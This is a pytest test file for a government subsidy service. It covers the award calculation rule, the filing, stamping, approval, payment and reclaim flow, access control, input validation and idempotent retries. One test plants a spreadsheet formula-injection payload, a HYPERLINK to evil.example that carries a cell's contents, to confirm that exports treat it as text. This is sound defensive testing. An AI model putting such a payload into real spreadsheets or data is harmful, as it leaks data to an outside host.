"""The subsidy service through its entrypoints, following the real application, review and scoring
services in-process: from an award to a payment, and a reclaim; the rule on its edge cases; who may
see and do what."""
from __future__ import annotations

import base64
import io

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from sqlalchemy import update

from services.subsidy import projections as rm
from services.subsidy import rules
from shared.errors import Forbidden, InvalidInput, InvalidState, NotFound
from tests.support.retries import head, retried
from tests.support.subsidy_inprocess import PAYEE, Four, invoices_for


@pytest.fixture
def four(tmp_path, clock) -> Four:
    return Four(tmp_path, clock)


def contract(cid: str, start: str, end: str, total: str, fee: str) -> dict:
    return {"contract_id": cid, "number": f"HT-{cid}", "term_start": start, "term_end": end, "total_amount": total,
            "annual_fee": fee}


# ------------------------------------------------------------------ the rule
REF = "2018-11-30"


def test_one_contract_in_force_gives_a_fifth_of_its_annual_fee():
    result = rules.calculate([contract("a", "2018-05-01", "2019-04-30", "90000.00", "90000.00")], ["a"], "0.20",
                             "50000.00", REF)
    assert (result["amount"], result["capped"], result["flags"]) == ("18000.00", False, [])


def test_several_contracts_in_force_are_summed_and_then_capped():
    cs = [contract("a", "2018-01-01", "2018-12-31", "150000.00", "150000.00"),
          contract("b", "2018-06-01", "2019-05-31", "110000.00", "110000.00")]
    result = rules.calculate(cs, ["a", "b"], "0.20", "50000.00", REF)
    assert (result["annual_fees"], result["uncapped"], result["amount"], result["capped"]) == (
        "260000.00", "52000.00", "50000.00", True)


def test_the_cap_reached_exactly_is_not_exceeded():
    result = rules.calculate([contract("a", "2018-01-01", "2018-12-31", "250000.00", "250000.00")], ["a"], "0.20",
                             "50000.00", REF)
    assert (result["amount"], result["capped"]) == ("50000.00", False)


def test_a_contract_ending_the_day_before_the_reference_date_does_not_count_one_ending_on_it_does():
    before = contract("a", "2017-11-30", "2018-11-29", "60000.00", "60000.00")
    on = contract("b", "2017-12-01", "2018-11-30", "40000.00", "40000.00")
    result = rules.calculate([before, on], ["a", "b"], "0.20", "50000.00", REF)
    assert [c["contract_id"] for c in result["contracts"]] == ["b"] and result["amount"] == "8000.00"


def test_an_unconfirmed_contract_does_not_count():
    result = rules.calculate([contract("a", "2018-05-01", "2019-04-30", "90000.00", "90000.00")], [], "0.20",
                             "50000.00", REF)
    assert (result["contracts"], result["amount"]) == ([], "0.00")


def test_fen_are_rounded_half_up():
    result = rules.calculate([contract("a", "2018-05-01", "2019-04-30", "12345.68", "12345.68")], ["a"], "0.20",
                             "50000.00", REF)
    assert result["amount"] == "2469.14"  # 2469.136
    half = rules.calculate([contract("a", "2018-05-01", "2019-04-30", "10000.03", "10000.03")], ["a"], "0.15",
                           "50000.00", REF)
    assert half["amount"] == "1500.00"  # 1500.0045 -> 1500.00; half up only at the fen's half
    exact_half = rules.calculate([contract("a", "2018-05-01", "2019-04-30", "100.05", "100.05")], ["a"], "0.10",
                                 "50000.00", REF)
    assert exact_half["amount"] == "10.01"  # 10.005 -> 10.01


def test_a_fee_that_disagrees_with_the_total_and_term_is_flagged_and_the_fee_is_used():
    two_years = contract("a", "2018-01-01", "2019-12-31", "150000.00", "90000.00")  # 2 x 90000 would be 180000
    result = rules.calculate([two_years], ["a"], "0.20", "50000.00", REF)
    assert result["flags"] == [{"contract_id": "a", "flag": "annual_fee_disagrees_with_total"}]
    assert result["amount"] == "18000.00"
    agrees = contract("b", "2018-01-01", "2019-12-31", "180000.00", "90000.00")
    assert rules.calculate([agrees], ["b"], "0.20", "50000.00", REF)["flags"] == []


def test_invoices_that_do_not_cover_the_fee_are_flagged():
    c = contract("a", "2018-05-01", "2019-04-30", "90000.00", "90000.00")
    result = rules.calculate([c], ["a"], "0.20", "50000.00", REF, invoices_for(["a"], amount="30000.00"))
    assert result["flags"] == [{"contract_id": "a", "flag": "invoices_below_annual_fee", "invoiced": "30000.00"}]


# ------------------------------------------------------------------ the flow
def test_an_award_is_filed_calculated_approved_and_paid_once(four):
    apps = four.awarded(1)
    app_id = apps[0]
    ent = four.enterprise(1)
    case = ent.get_subsidy_case(app_id)
    assert case["status"] == "awaiting_details" and case["terms"] == {
        "subsidy_rate": "0.20", "subsidy_cap": "50000.00", "reference_date": "2018-11-30"}
    county = four.app.login("changan", "changan-Own-pass-2018").on(four.subsidy)
    city = four.app.login("sjz-city", "sjz-city-Own-pass-2018").on(four.subsidy)
    with pytest.raises(InvalidState):  # the county stamps what the enterprise gave
        county.stamp(app_id, {})
    ent.give_filing_details(app_id, {"payee": PAYEE, "invoices": invoices_for(["c2018"])})
    with pytest.raises(InvalidState):  # the city after the county
        city.stamp(app_id, {})
    county.stamp(app_id, {"remarks": "材料属实，已盖章"})
    city.stamp(app_id, {"remarks": "同意报送"})
    with pytest.raises(InvalidState):  # not before it is filed
        four.province_subsidy.calculate(app_id)
    four.province_subsidy.send_back(app_id, {"reasons": ["发票复印件不清晰"]})
    ent.give_filing_details(app_id, {"payee": PAYEE, "invoices": invoices_for(["c2018"])})
    county.stamp(app_id, {})
    city.stamp(app_id, {})
    four.province_subsidy.file_case(app_id, {"remarks": "已备案"})
    calculated = four.province_subsidy.calculate(app_id)["calculation"]
    assert (calculated["amount"], [c["contract_id"] for c in calculated["contracts"]]) == ("18000.00", ["c2018"])
    with pytest.raises(InvalidInput):
        four.finance.approve(app_id, {"amount": "18000.01"})
    four.finance.approve(app_id, {"amount": "18000.00"})
    with pytest.raises(InvalidInput):  # not the approved amount
        four.finance.record_payment(app_id, {"paid_on": "2019-03-01", "amount": "17000.00", "voucher_reference": "PAY-1"})
    paid = four.finance.record_payment(app_id, {"paid_on": "2019-03-01", "amount": "18000.00", "voucher_reference": "PAY-1"})
    again = four.finance.record_payment(app_id, {"paid_on": "2019-03-01", "amount": "18000.00", "voucher_reference": "PAY-1"})
    assert again["payment"] == paid["payment"] and again["position"] is None  # recorded once
    log = four.province_subsidy.get_notifications(0, 1000)["notifications"]
    assert [e["type"] for e in log].count("subsidy.paid") == 1
    calc = next(e for e in log if e["type"] == "subsidy.calculated")["data"]
    assert rules.calculate(**calc["inputs"]) == calc["result"]  # anyone recomputes it from the event alone

    four.revoke(app_id)
    reclaim = four.finance.get_subsidy_case(app_id)["reclaim"]
    assert (reclaim["amount"], four.finance.get_subsidy_case(app_id)["status"]) == ("18000.00", "reclaiming")
    four.finance.record_recovery(app_id, {"recovered_on": "2019-06-01", "amount": "8000.00", "reference": "REC-1"})
    with pytest.raises(InvalidInput):  # more than is outstanding
        four.finance.record_recovery(app_id, {"recovered_on": "2019-06-02", "amount": "10000.01", "reference": "REC-2"})
    done = four.finance.record_recovery(app_id, {"recovered_on": "2019-06-02", "amount": "10000.00", "reference": "REC-2"})
    assert done["status"] == "reclaimed"


def test_a_revoked_award_cancels_an_unpaid_case(four):
    app_id = four.awarded(1)[0]
    four.revoke(app_id)
    assert four.province_subsidy.get_subsidy_case(app_id)["status"] == "cancelled"
    with pytest.raises(InvalidState):
        four.enterprise(1).give_filing_details(app_id, {"payee": PAYEE, "invoices": invoices_for(["c2018"])})


def test_only_the_own_county_and_city_stamp_only_finance_pays_and_bank_details_are_masked(four):
    app_id = four.awarded(1)[0]
    ent = four.enterprise(1)
    ent.give_filing_details(app_id, {"payee": PAYEE, "invoices": invoices_for(["c2018"])})
    other_county = four.app.provision("qiaoxi", "county", division_code="130104").on(four.subsidy)
    with pytest.raises(NotFound):
        other_county.stamp(app_id, {})
    other_city = four.app.provision("tangshan", "city", division_code="130200").on(four.subsidy)
    with pytest.raises(NotFound):
        other_city.get_subsidy_case(app_id)
    with pytest.raises(Forbidden):
        four.province_subsidy.record_payment(app_id, {"paid_on": "2019-03-01", "amount": "1.00", "voucher_reference": "X-1"})
    assert ent.get_subsidy_case(app_id)["payee"]["account"] == PAYEE["account"]
    assert four.finance.get_subsidy_case(app_id)["payee"]["account"] == PAYEE["account"]
    shown = four.province_subsidy.get_subsidy_case(app_id)["payee"]["account"]
    assert shown.endswith("2345") and PAYEE["account"] not in shown
    details = next(e for e in four.province_subsidy.get_notifications(0, 1000)["notifications"]
                   if e["type"] == "subsidy.details_given")
    assert details["data"]["payee"]["account"] == shown  # the public event is masked too
    other = four.app.enterprise("someone-else", serial=99).on(four.subsidy)
    with pytest.raises(NotFound):
        other.get_subsidy_case(app_id)


def test_bad_filing_details_are_refused_field_by_field_and_record_nothing(four):
    app_id = four.awarded(1)[0]
    before = four.subsidy_store.max_position()
    with pytest.raises(InvalidInput) as refused:
        four.enterprise(1).give_filing_details(app_id, {
            "payee": {"name": "x", "bank": "", "account": "12ab"},
            "invoices": [{"contract_id": "nope", "kind": "receipt", "number": "", "date": "2018-13-01", "amount": "-1"}]})
    assert {"payee", "invoices"} <= set(refused.value.details["fields"])
    with pytest.raises(InvalidInput) as unknown:
        four.enterprise(1).give_filing_details(app_id, {"payee": PAYEE, "invoices": invoices_for(["nope"])})
    assert "invoices.0.contract_id" in unknown.value.details["fields"]
    assert four.subsidy_store.max_position() == before


def test_the_dossier_is_verified_against_the_record_and_printing_again_gives_the_same_digest(four):
    app_id = four.awarded(1)[0]
    ent = four.enterprise(1)
    printed = ent.print_dossier(app_id)
    assert ent.print_dossier(app_id)["digest"] == printed["digest"]
    text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(base64.b64decode(printed["content_base64"]))).pages)
    assert printed["digest"] in text and app_id in text and "某云服务有限公司 hbcloud-provider" in text  # the provider by its pool name
    county = four.app.login("changan", "changan-Own-pass-2018").on(four.subsidy)
    claim = {"application_id": app_id, "position": printed["position"], "digest": printed["digest"]}
    assert county.verify_dossier(claim)["matches"] is True
    assert county.verify_dossier(claim | {"digest": "0" * 64})["matches"] is False
    assert county.verify_dossier(claim | {"position": printed["position"] + 1000})["matches"] is False


def test_the_roster_and_city_totals_export_with_their_position(four):
    app_id = four.awarded(1)[0]
    four.enterprise(1).give_filing_details(app_id, {"payee": PAYEE, "invoices": invoices_for(["c2018"])})
    exported = four.finance.export_subsidy_list({"campaign_code": "2018", "list": "city_totals"})
    rows = list(load_workbook(io.BytesIO(base64.b64decode(exported["content_base64"]))).active.iter_rows(values_only=True))
    assert f"subsidy position {exported['position']}" in rows[0][0] and rows[2][:2] == ("130100", 1)


# ------------------------------------------------------------------ what an outsider's attack found
def test_a_name_that_is_a_formula_is_exported_as_text(four):
    app_id = four.awarded(1)[0]
    # A hostile name, as an enterprise could register it, put straight into the case's row here.
    with four.subsidy_store.transaction() as session:
        session.execute(update(rm.cases).values(enterprise_name='=HYPERLINK("http://evil.example/?"&A3,"点击查看")'))
    exported = four.finance.export_subsidy_list({"campaign_code": "2018", "list": "payments"})
    cell = load_workbook(io.BytesIO(base64.b64decode(exported["content_base64"]))).active["B3"]
    assert cell.value.startswith("=HYPERLINK") and cell.data_type == "s"  # text, not a formula
    as_csv = four.finance.export_subsidy_list({"campaign_code": "2018", "list": "payments", "format": "csv"})
    assert "'=HYPERLINK" in base64.b64decode(as_csv["content_base64"]).decode("utf-8-sig")
    with pytest.raises(NotFound):
        four.finance.export_subsidy_list({"campaign_code": "2099", "list": "payments"})


def filed(four: Four, app_id: str, serial: int) -> None:
    four.enterprise(serial).give_filing_details(app_id, {"payee": PAYEE, "invoices": invoices_for(["c2018"])})
    four.app.login("changan", "changan-Own-pass-2018").on(four.subsidy).stamp(app_id, {})
    four.app.login("sjz-city", "sjz-city-Own-pass-2018").on(four.subsidy).stamp(app_id, {})
    four.province_subsidy.file_case(app_id, {})
    four.province_subsidy.calculate(app_id)
    four.finance.approve(app_id, {"amount": "18000.00"})


def test_one_bank_voucher_pays_one_case(four):
    first, second = four.awarded(2)
    filed(four, first, 1)
    filed(four, second, 2)
    four.finance.record_payment(first, {"paid_on": "2019-03-01", "amount": "18000.00", "voucher_reference": "GK-1"})
    with pytest.raises(InvalidState) as reused:
        four.finance.record_payment(second, {"paid_on": "2019-03-01", "amount": "18000.00", "voucher_reference": "GK-1"})
    assert reused.value.details["paid_for"] == first


def test_duplicate_invoices_blank_names_loose_amounts_and_dates_are_refused(four):
    app_id = four.awarded(1)[0]
    ent = four.enterprise(1)
    before = four.subsidy_store.max_position()
    twice = invoices_for(["c2018"]) + invoices_for(["c2018"])
    for details in ({"payee": PAYEE, "invoices": twice},
                    {"payee": PAYEE | {"name": "   "}, "invoices": invoices_for(["c2018"])},
                    {"payee": PAYEE, "invoices": [i | {"amount": "1.8e4"} for i in invoices_for(["c2018"])]},
                    {"payee": PAYEE, "invoices": [i | {"amount": "１７０００"} for i in invoices_for(["c2018"])]},
                    {"payee": PAYEE, "invoices": [i | {"date": "20180510"} for i in invoices_for(["c2018"])]}):
        with pytest.raises(InvalidInput):
            ent.give_filing_details(app_id, details)
    with pytest.raises(InvalidInput):
        ent.give_filing_details(app_id, {"payee": PAYEE, "invoices": invoices_for(["c2018"])}, idempotency_key="k\x01")
    with pytest.raises(InvalidInput):
        four.finance.list_subsidy_cases({"status": "nope"})
    assert four.subsidy_store.max_position() == before


def test_every_subsidy_command_retried_with_its_key_answers_its_first_answer_and_acts_once(four):
    """A portal that lost an answer retries with the same key: the first answer and nothing recorded,
    where the same call without the key is now refused (or would act again)."""
    app_id = four.awarded(1)[0]
    ent, province, finance, log = four.enterprise(1), four.province_subsidy, four.finance, head(four.province_subsidy)
    county = four.app.login("changan", "changan-Own-pass-2018").on(four.subsidy)
    city = four.app.login("sjz-city", "sjz-city-Own-pass-2018").on(four.subsidy)
    details = {"payee": PAYEE, "invoices": invoices_for(["c2018"])}
    ent.give_filing_details(app_id, details)
    stamped = {"remarks": "材料属实，已盖章"}
    for bureau in (county, city):
        retried(bureau, "stamp", (app_id, stamped), log, InvalidState, other=(app_id, {"remarks": "同意报送"}))
    back = {"reasons": ["发票复印件不清晰"]}
    retried(province, "send_back", (app_id, back), log, InvalidState, other=(app_id, {"reasons": ["付款凭证缺失"]}))
    ent.give_filing_details(app_id, details)
    county.stamp(app_id, {})
    city.stamp(app_id, {})
    retried(province, "file_case", (app_id, {"remarks": "已备案"}), log, InvalidState, other=(app_id, {"remarks": "备案"}))
    amount = retried(province, "calculate", (app_id,), log)["calculation"]["amount"]  # again before approval: recalculated
    retried(finance, "approve", (app_id, {"amount": amount}), log, InvalidState, other=(app_id, {"amount": "1.00"}))
    payment = {"paid_on": "2019-03-01", "amount": amount, "voucher_reference": "PAY-1"}
    paid = retried(finance, "record_payment", (app_id, payment), log, other=(app_id, payment | {"paid_on": "2019-03-02"}))
    assert paid["position"] is not None  # the first answer; the same voucher without the key answers `position: null`
